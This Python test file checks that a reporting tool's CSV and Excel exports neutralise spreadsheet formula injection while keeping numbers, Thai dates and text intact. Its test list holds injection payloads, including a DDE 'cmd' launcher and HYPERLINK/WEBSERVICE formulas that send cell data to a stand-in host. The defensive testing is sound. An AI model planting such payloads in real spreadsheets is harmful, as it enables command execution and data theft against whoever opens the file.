"""What is written reads back: numbers, days and text as they were, and no cell that acts."""

import csv
from datetime import UTC, date, datetime
from io import BytesIO, StringIO
from typing import Any

import pytest
from openpyxl import load_workbook

from rabfang.core.cells import plain
from rabfang.reports.exports import xlsx_file
from rabfang.reports.exports.csv_file import CsvFile
from rabfang.reports.exports.lists import Head, Shows, Value
from rabfang.reports.exports.xlsx_file import XlsxFile

ACTING = [
    "=1+1",
    "+66 81 234 5678",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "'=1+1",
    '=HYPERLINK("http://a.example?"&A1,"ดู")',
    '=WEBSERVICE("http://a.example/"&A2)',
    "|calc",
    "%0A=1",
    "−1+1",
    '"=1+1',
]
PLAIN = ["ไฟดับ \x00\x0b<b>&amp;", 'พูดว่า "ไม่"; จริง, ๆ', "บรรทัด\r\nสอง ", "1/2570", "0812345678", ""]
AT = datetime(2026, 11, 20, 17, 30, 5, tzinfo=UTC)  # the 21st in Bangkok
HEADS = [Head("ข้อความ"), *(Head(shows.value, shows) for shows in Shows if shows != Shows.TEXT)]
ROWS: list[list[Value]] = [[text, -5, 33.3, date(2026, 11, 21), AT, AT] for text in ACTING + PLAIN]
ROWS.append(["ว่าง", None, None, None, None, None])
ACTIVE = tuple("=+-@|%＝＋－＠−\t\r\n")


def seen(text: str) -> str:
    """A cell from the first sign that a program looks at."""
    return text.strip(" \u200b\ufeff\u202e")


@pytest.mark.parametrize(("english", "day"), [(False, "21 พ.ย. 2569"), (True, "21 Nov 2569")])
def test_a_csv(english: bool, day: str) -> None:
    out = BytesIO()
    write = CsvFile(out, HEADS, english=english)
    write.add(ROWS)
    write.close()
    text = out.getvalue().decode()
    assert text.startswith('\ufeff"ข้อความ","number",')
    assert '"\'=1+1",-5,33.3,"' in text  # a number is not in quotes, and keeps its sign
    _head, *rows = csv.reader(StringIO(text.removeprefix("\ufeff"), newline=""))
    assert len(rows) == len(ROWS)
    assert rows[0][1:] == ["-5", "33.3", day, f"{day} 00:30", f"{day} 00:30:05"]
    assert rows[-1] == ["ว่าง", "", "", "", "", ""]
    assert not [row[0] for row in rows if seen(row[0]).startswith(ACTIVE)]
    assert [plain(row[0]) for row in rows[: len(ACTING)]] == ACTING
    assert [row[0] for row in rows[len(ACTING) : -1]] == PLAIN


@pytest.mark.parametrize(("english", "calendar"), [(False, "[$-107041E]"), (True, "[$-1070409]")])
def test_a_workbook(english: bool, calendar: str) -> None:
    sheet, *others = sheets(ROWS, english=english)
    assert (others, sheet.title, sheet.freeze_panes) == ([], "ทะเบียน 1", "A2")
    assert sheet.auto_filter.ref == f"A1:F{len(ROWS) + 1}"
    head, *rows = sheet.iter_rows()
    assert [cell.value for cell in head] == [str(one.title) for one in HEADS]
    assert all(cell.font.bold for cell in head)
    first = rows[0]
    assert [cell.data_type for cell in first] == ["s", "n", "n", "d", "d", "d"]
    moment = datetime(2026, 11, 21, 0, 30, 5)  # noqa: DTZ001 - as Excel has it
    assert [cell.value for cell in first[1:]] == [-5, 33.3, datetime(2026, 11, 21), moment, moment]  # noqa: DTZ001
    assert [cell.number_format for cell in first[:3]] == ["@", "General", "0.0"]
    assert all(cell.number_format.startswith(calendar) for cell in first[3:])
    texts = [row[0].value or "" for row in rows]
    assert {cell.data_type for row in rows for cell in row} <= {"s", "n", "d"}  # no formula
    assert not [text for text in texts if seen(text).startswith(ACTIVE)]
    assert texts[len(ACTING)] == "ไฟดับ <b>&amp;"
    assert texts[len(ACTING) + 1 : -1] == ['พูดว่า "ไม่"; จริง, ๆ', "บรรทัด\nสอง ", "1/2570", "0812345678", ""]


def test_rows_beyond_one_sheet_go_on_in_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx_file, "MOST_ROWS", 10)
    found = sheets([[str(number), number, None, None, None, None] for number in range(25)])
    assert [sheet.title for sheet in found] == ["ทะเบียน 1", "ทะเบียน 1 2", "ทะเบียน 1 3"]
    numbers = [[row[1] for row in sheet.iter_rows(min_row=2, values_only=True)] for sheet in found]
    assert numbers == [[*range(10)], [*range(10, 20)], [*range(20, 25)]]
    assert [next(sheet.iter_rows(values_only=True))[0] for sheet in found] == ["ข้อความ"] * 3


def sheets(rows: list[list[Value]], *, english: bool = False) -> list[Any]:
    """The sheets of a workbook of these rows, as another program reads them."""
    out = BytesIO()
    write = XlsxFile(out, HEADS, title="ทะเบียน/1", english=english)
    write.add(rows)
    write.close()
    return list(load_workbook(out).worksheets)
